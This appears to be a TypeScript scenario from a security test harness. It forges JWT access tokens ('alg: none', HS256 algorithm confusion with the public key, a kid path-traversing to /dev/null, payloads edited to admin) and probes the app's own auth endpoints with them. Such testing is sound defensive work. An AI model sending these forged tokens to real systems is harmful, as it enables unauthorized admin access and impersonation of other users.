// Forged access tokens: `alg: none`, HS256 keyed with the server's public key (algorithm
// confusion), an HS256 token whose `kid` points at /dev/null, and a real token whose payload was
// edited to role admin. SUCCEEDED when any forged token gets a 2xx from GET /api/auth/me or
// GET /api/admin/users.

import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto';
import { isAccepted, outcomeLabel } from '../attacker.ts';
import { expectAccepted, newAccount } from '../accounts.ts';
import type { Scenario } from '../scenario.ts';

const TARGETS = ['/api/auth/me', '/api/admin/users'] as const;

function encode(part: unknown): string {
  return Buffer.from(JSON.stringify(part)).toString('base64url');
}

function decode(part: string | undefined): Record<string, unknown> {
  const value: unknown = JSON.parse(Buffer.from(part ?? '', 'base64url').toString('utf8'));
  return typeof value === 'object' && value !== null ? (value as Record<string, unknown>) : {};
}

function hs256(header: object, payload: object, secret: string | Buffer): string {
  const signingInput = `${encode(header)}.${encode(payload)}`;
  const signature = createHmac('sha256', secret).update(signingInput).digest('base64url');
  return `${signingInput}.${signature}`;
}

/** The first key the server publishes, as a JWK and as the SPKI PEM an HMAC confusion uses. */
function publishedKey(jwks: Record<string, unknown>): {
  kid: string;
  jwk: JsonWebKey;
  pem: string;
} {
  const keys = Array.isArray(jwks.keys) ? (jwks.keys as unknown[]) : [];
  const first = keys[0];
  if (typeof first !== 'object' || first === null) return { kid: '', jwk: {}, pem: '' };
  const jwk = first as JsonWebKey & { kid?: string };
  let pem = '';
  try {
    pem = createPublicKey({ key: jwk, format: 'jwk' })
      .export({ type: 'spki', format: 'pem' })
      .toString();
  } catch {
    // Not a key node:crypto understands; the PEM variant is then keyed with an empty string.
  }
  return { kid: jwk.kid ?? '', jwk, pem };
}

export const forgedTokens: Scenario = {
  name: 'forged-tokens',
  async run({ attacker, tally }) {
    const account = await newAccount(attacker);
    const jwks = expectAccepted(
      'GET /.well-known/jwks.json',
      await attacker.send('GET', '/.well-known/jwks.json'),
    );
    const { kid, jwk, pem } = publishedKey(jwks);
    const [realHeader, realPayload, realSignature] = account.token.split('.');
    const claims = decode(realPayload);
    const admin = { ...claims, role: 'admin' };
    const typ = decode(realHeader).typ ?? 'at+jwt';

    const forged: [string, string][] = [
      ['alg none', `${encode({ alg: 'none', typ })}.${encode(admin)}.`],
      ['alg None', `${encode({ alg: 'None', typ, kid })}.${encode(admin)}.`],
      ['HS256 keyed with the public PEM', hs256({ alg: 'HS256', typ, kid }, admin, pem)],
      [
        'HS256 keyed with the public JWK',
        hs256({ alg: 'HS256', typ, kid }, admin, JSON.stringify(jwk)),
      ],
      [
        'HS256 with kid ../../dev/null',
        hs256({ alg: 'HS256', typ, kid: '../../../../../../dev/null' }, admin, Buffer.alloc(0)),
      ],
      ['payload edited to role admin', `${realHeader}.${encode(admin)}.${realSignature}`],
      [
        'payload edited to user 1',
        `${realHeader}.${encode({ ...admin, sub: '1' })}.${realSignature}`,
      ],
    ];

    const accepted: string[] = [];
    for (const [label, token] of forged) {
      for (const path of TARGETS) {
        if (attacker.spent) break;
        const outcome = tally.record(await attacker.send('GET', path, { token }));
        if (isAccepted(outcome)) accepted.push(`${label} on ${path} (${outcomeLabel(outcome)})`);
      }
    }
    return {
      succeeded: accepted.length > 0,
      notes:
        accepted.length > 0
          ? [`forged token accepted: ${accepted.join(', ')}`]
          : [`${forged.length} forged tokens x ${TARGETS.length} routes, none accepted`],
    };
  },
};
